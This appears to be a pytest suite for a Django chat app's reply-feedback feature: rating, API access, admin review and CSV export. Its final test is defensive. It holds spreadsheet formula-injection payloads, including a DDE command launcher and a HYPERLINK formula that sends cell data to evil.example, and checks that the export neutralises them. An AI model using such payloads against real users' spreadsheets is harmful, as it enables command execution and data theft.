"""Feedback on replies: set, changed and taken back by their owner; reviewed in the admin."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from chat import spreadsheets
from chat.models import Feedback, Message, Usage
from chat.services import conversations
from tests.conftest import exchange

pytestmark = pytest.mark.django_db


def rate(client: Client, message_id: int, **body: Any) -> Any:
    return client.post(f"/m/{message_id}/feedback/", body, content_type="application/json")


@pytest.fixture
def reply(owner: Any) -> Message:
    conversation = conversations.conversation_create(user=owner, title="Capitals")
    _, answer = exchange(conversation, "What is the capital of France?", "Lyon, I think.")
    Message.objects.filter(pk=answer.pk).update(model="tiny")
    answer.refresh_from_db()
    return answer


def test_a_reply_is_rated_changed_commented_and_taken_back(
    client: Client, owner: Any, reply: Message
) -> None:
    client.force_login(owner)
    answer = rate(client, reply.pk, rating="up")
    assert answer.status_code == 200 and answer.json()["feedback"] == {"rating": "up", "comment": ""}
    answer = rate(client, reply.pk, rating="down", comment="  Paris is the capital.  ")
    assert answer.json()["feedback"] == {"rating": "down", "comment": "Paris is the capital."}
    assert Feedback.objects.get(message=reply).rating == Feedback.Rating.DOWN  # changed, not added
    page = client.get(f"/c/{reply.conversation_id}/")
    assert page.status_code == 200
    assert rate(client, reply.pk, rating=None).json()["feedback"] is None
    assert not Feedback.objects.exists()


def test_feedback_is_refused_for_other_peoples_replies_and_for_what_is_not_a_finished_reply(
    client: Client, owner: Any, other_user: Any, reply: Message
) -> None:
    client.force_login(other_user)
    assert rate(client, reply.pk, rating="up").status_code == 404
    client.force_login(owner)
    question = Message.objects.get(conversation=reply.conversation, role="user")
    refused = rate(client, question.pk, rating="up")
    assert refused.status_code == 400 and "only a finished reply can be rated" in refused.json()["error"]
    refused = rate(client, reply.pk, rating="meh")
    assert refused.status_code == 400 and 'must be "up" or "down"' in refused.json()["error"]
    refused = rate(client, reply.pk, rating="up", comment="x" * 2001)
    assert refused.status_code == 400 and "at most 2000 characters" in refused.json()["error"]
    assert not Feedback.objects.exists()


def test_the_rest_api_reads_and_writes_feedback(
    client: Client, owner: Any, owner_key: str, reply: Message
) -> None:
    headers = {"Authorization": f"Bearer {owner_key}"}
    url = f"/api/v1/messages/{reply.pk}/feedback"
    put = client.put(
        url, {"rating": "up", "comment": "Clear."}, content_type="application/json", headers=headers
    )
    assert put.status_code == 200 and put.json() == {"rating": "up", "comment": "Clear."}
    listed = client.get(f"/api/v1/conversations/{reply.conversation_id}/messages", headers=headers).json()
    assert [m["feedback"] for m in listed["items"]] == [None, {"rating": "up", "comment": "Clear."}]
    bad = client.put(url, {"rating": "sideways"}, content_type="application/json", headers=headers)
    assert bad.status_code == 400
    assert client.delete(url, headers=headers).status_code == 204
    assert client.get(f"/api/v1/messages/{reply.pk}", headers=headers).json()["feedback"] is None


def test_the_admin_review_queue_filters_shows_the_conversation_and_exports_csv(
    admin_client: Client, owner: Any, other_user: Any, reply: Message
) -> None:
    Feedback.objects.create(message=reply, rating=Feedback.Rating.DOWN, comment="Wrong capital.")
    elsewhere = conversations.conversation_create(user=other_user, title="Other")
    _, good = exchange(elsewhere, "Hi", "Hello! How can I help?")
    Feedback.objects.create(message=good, rating=Feedback.Rating.UP)

    queue = admin_client.get("/admin/chat/feedback/", {"rating__exact": "-1"}).content.decode()
    assert "Wrong capital." in queue and "Hello! How can I help?" not in queue
    by_model = admin_client.get("/admin/chat/feedback/", {"message__model": "tiny"}).content.decode()
    assert "Lyon, I think." in by_model and "Hello! How can I help?" not in by_model

    down = Feedback.objects.get(message=reply)
    detail = admin_client.get(f"/admin/chat/feedback/{down.pk}/change/").content.decode()
    assert "What is the capital of France?" in detail and "(the rated reply)" in detail

    exported = admin_client.post(
        "/admin/chat/feedback/",
        {"action": "export_csv", "_selected_action": [str(f.pk) for f in Feedback.objects.all()]},
    )
    rows = list(csv.reader(io.StringIO(exported.content.decode())))
    assert rows[0] == [
        "updated",
        "rating",
        "user",
        "model",
        "conversation_id",
        "message_id",
        "reply",
        "comment",
    ]
    assert {(row[1], row[2], row[7]) for row in rows[1:]} == {
        ("down", "olivia", "Wrong capital."),
        ("up", "mallory", ""),
    }


def test_exported_cells_that_a_spreadsheet_would_run_as_formulas_stay_text(
    admin_client: Client, owner: Any
) -> None:
    # A comment and a reply (users control replies through import or /v1 history)
    # written to run when the operator opens the CSV.
    conversation = conversations.conversation_create(user=owner, title="Sheets")
    _, hostile = exchange(conversation, "Hi", "+cmd|' /C calc'!A0")
    formula = '=HYPERLINK("http://evil.example/?d="&A2,"details")'
    Feedback.objects.create(message=hostile, rating=Feedback.Rating.DOWN, comment=formula)
    Usage.objects.create(user=owner, day=timezone.localdate(), model="@SUM(1+1)", replies=1)

    exported = admin_client.post(
        "/admin/chat/feedback/",
        {"action": "export_csv", "_selected_action": [str(Feedback.objects.get().pk)]},
    )
    row = list(csv.reader(io.StringIO(exported.content.decode())))[1]
    assert (row[6], row[7]) == ("'+cmd|' /C calc'!A0", "'" + formula)

    report = admin_client.get("/admin/chat/usage/report/", {"format": "csv"})
    rows = list(csv.reader(io.StringIO(report.content.decode())))
    assert rows[1][:3] == ["olivia", "'@SUM(1+1)", "1"]  # numbers are written as they are
    for cell in ("-2+3", "\t=1", "\r=1"):
        assert spreadsheets.inert(cell) == "'" + cell
    assert spreadsheets.inert(-5) == -5 and spreadsheets.inert("Paris") == "Paris"
